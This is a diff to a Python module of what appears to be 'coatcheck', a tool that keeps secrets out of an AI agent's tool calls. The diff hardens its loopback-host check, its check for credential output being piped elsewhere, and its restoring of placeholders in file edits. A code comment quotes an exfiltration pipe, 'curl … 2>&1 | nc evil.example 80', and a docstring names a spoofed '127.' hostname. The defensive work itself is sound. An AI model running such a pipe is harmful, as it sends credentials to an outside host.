@@ -20,8 +20,8 @@ from __future__ import annotations
 
 import fnmatch
 import functools
+import ipaddress
 import json
-import re
 import shlex
 from collections import Counter
 from collections.abc import Callable
@@ -39,10 +39,9 @@ from .dialects import (CMD, POSIX, POWERSHELL, UNKNOWN_SHELL, Dialect, decode_en
                        tool_dialect)
 from .dialects.nesting import last_word_start, replace_last_word
 from .dialects.posix_grammar import Script, command_at, parse
-from .files import MATCH_FIELDS, auto_run, normalise, patch_files, target_path
+from .files import auto_run, match_field, normalise, patch_files, target_path
 from .urls import for_position, url_component
 
-LOOPBACK = frozenset({"localhost", "127.0.0.1", "::1", "0.0.0.0", "host.docker.internal"})
 
 
 @dataclass(frozen=True)
@@ -114,9 +113,21 @@ def provider_hosts(detector: str) -> tuple[str, ...]:
     return sinks().provider_hosts.get(provider, ()) if provider else ()
 
 
+def is_loopback(host: str) -> bool:
+    """``localhost`` or a loopback address literal (``127.0.0.0/8``, ``::1``); never a name that merely starts with
+    ``127.`` (``127.evil.example`` is whatever its owner's DNS says)."""
+    host = host.lower().rstrip(".").strip("[]")
+    if host == "localhost":
+        return True
+    try:
+        return ipaddress.ip_address(host).is_loopback or host == "0.0.0.0"
+    except ValueError:
+        return False
+
+
 def host_allowed(host: str, patterns: set[str] | frozenset[str] | tuple[str, ...]) -> bool:
     host = host.lower().rstrip(".")
-    if host in LOOPBACK or host.startswith("127."):
+    if is_loopback(host):
         return True
     for p in patterns:
         p = p.lower()
@@ -236,7 +247,7 @@ class ToolRestorer:
 
     def _file_check(self, placeholder: str, path: str | None, content: str | None, field: str) -> str | None:
         """Where a secret may be written: a file it was read from, or a file that does not run by itself."""
-        if field.rsplit(".", 1)[-1] in MATCH_FIELDS:
+        if match_field(field.rsplit(".", 1)[-1]):
             return None  # Edit's old_string only matches text already in the file
         if path is None:
             return "the tool call names no file coatcheck can check"
@@ -305,7 +316,14 @@ class ToolRestorer:
         """Why the placeholder at ``offset`` of a parsed POSIX command stays, or None to restore it. ``dest`` caches
         the script's destinations (computed once, when a personal value first needs them)."""
         if self._secret(ph):
-            return credentials.decide(script, offset, ph, self.allowed_host(ph), command_at)
+            why = credentials.decide(script, offset, ph, self.allowed_host(ph), command_at)
+            if why is not None:
+                return why
+            # the rest of the script must not reach anywhere else either: a pipe or a redirection can carry what
+            # the credential's command prints (``curl … 2>&1 | nc evil.example 80``)
+            if not dest:
+                dest.append(analyse(script, self.sinks.shell))
+            return self._network(ph, dest[0])
         found = command_at(script, offset)
         if found is not None:
             why = reread(script, *found, self.sinks.shell)
@@ -486,8 +504,18 @@ class ToolRestorer:
             return value
 
         restored = walk(args, "", None, None)
+        if kept and self.sinks.kind(tool) == "file":
+            return args, self._all_or_nothing(tool, json.dumps(args, ensure_ascii=False), kept)
         self._note_handed(json.dumps(args, ensure_ascii=False), json.dumps(restored, ensure_ascii=False))
         return restored, kept
+
+    def _all_or_nothing(self, tool: str, text: str, kept: list[Kept]) -> list[Kept]:
+        """A file edit restores all of its placeholders or none: restoring the text it matches but not the text it
+        writes would put a placeholder over the value in the file, silently; unrestored, the edit fails visibly."""
+        held = {k.placeholder for k in kept}
+        why = "the same edit keeps another placeholder, so nothing in it is restored"
+        return kept + [Kept(m.group(), tool, "input", why) for m in PLACEHOLDER_RE.finditer(text)
+                       if m.group() not in held and self._value(m.group()) is not None]
 
     def refuse(self, tool: str, text: str, reason: str) -> list[Kept]:
         """Every placeholder the vault knows in ``text``, kept with ``reason`` (nothing is restored)."""
@@ -528,9 +556,18 @@ class ToolRestorer:
             return found
 
         restored = self._plain(text, lambda ph, at: self._decide(
-            ph, sink, tool, lambda: self._file_check(ph, file_of(at), None, "input")), kept, tool, "input")
+            ph, sink, tool, lambda: self._file_check(ph, file_of(at), None, _patch_field(text, at))), kept, tool, "input")
+        if kept and self.sinks.kind(tool) == "file":
+            return text, self._all_or_nothing(tool, text, kept)
         self._note_handed(text, restored)
         return restored, kept
+
+
+def _patch_field(patch: str, offset: int) -> str:
+    """``old_string`` for a patch line that only matches (context `` `` and removed ``-`` lines), ``input`` for one
+    that writes (``+`` lines, headers)."""
+    line = patch[patch.rfind("\n", 0, offset) + 1:offset + 1]
+    return "old_string" if line[:1] in (" ", "-") else "input"
 
 
 def _in_host_label(text: str, offset: int, placeholder: str) -> bool:
@@ -550,10 +587,3 @@ def notice(kept: list[Kept]) -> str:
     more = f" and {len(seen) - 5} more" if len(seen) > 5 else ""
     return (f"[coatcheck] kept {len(seen)} placeholder(s) in tool calls instead of the real value: "
             + "; ".join(parts) + more + ". To allow it, add the host or tool to [restore] in the coatcheck policy.")
-
-
-_NOTICE_RE = re.compile(r"^\[coatcheck\] kept \d+ placeholder\(s\) in tool calls")
-
-
-def is_notice(text: str) -> bool:
-    return bool(_NOTICE_RE.match(text))
